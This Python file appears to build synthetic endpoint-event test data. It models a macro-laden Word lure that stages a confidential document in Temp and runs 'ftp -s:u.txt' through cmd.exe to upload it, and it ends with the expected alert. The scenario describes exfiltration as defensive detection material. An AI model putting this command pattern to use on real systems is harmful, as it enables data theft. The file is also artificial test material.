"""What the host of this story reported, and what must come out."""

from endpoint_events import Story

story = Story()
control = story.connection(server_port=21)
data = story.connection(server_port=20)
size, digest = story.file("Q3-forecast.docx")

pc = story.host("WKS-0185", ["10.20.0.85"], "s.lind")
lure = pc.profile + "Downloads\\Updated travel policy.docm"
word = pc.process(
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    f'"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "{lure}" /o ""',
    pc.explorer,
    -22.0,
    signer="Microsoft Corporation",
)
temp = pc.profile + "AppData\\Local\\Temp\\"
pc.touch(word, "read", lure, -21.2, size=58_220)
# The macro copies a document aside and writes the script.
pc.touch(word, "read", pc.profile + "Documents\\Q3-forecast.docx", -3.40, size=size)
pc.touch(word, "create", temp + "Q3-forecast.docx", -3.38)
pc.touch(word, "write", temp + "Q3-forecast.docx", -3.35, size=size, sha256=digest)
pc.touch(word, "create", temp + "u.txt", -3.20)
pc.touch(word, "write", temp + "u.txt", -3.18, size=story.file("u.txt")[0])
shell = pc.process("cmd.exe", f"cmd.exe /c cd /d {temp} & ftp -s:u.txt", word, -0.34)
ftp = pc.process("ftp.exe", "ftp  -s:u.txt", shell, -0.19)
pc.touch(ftp, "read", temp + "u.txt", -0.09, size=story.file("u.txt")[0])
pc.connect(ftp, control)
pc.connect(ftp, data)
pc.touch(ftp, "read", temp + "Q3-forecast.docx", data, size=size)
pc.end(ftp, control)
pc.end(shell, (control.last - story.zero) / 1e9 + 0.04)

story.ftp_upload(data, "Q3-forecast.docx", size, ftp)
story.alert(
    data, ["data-staged", "process-unexpected", "dual-use-program", "destination-rare", "parent-denied"], 99, [("Q3-forecast.docx", word)], ftp
)
story.write()
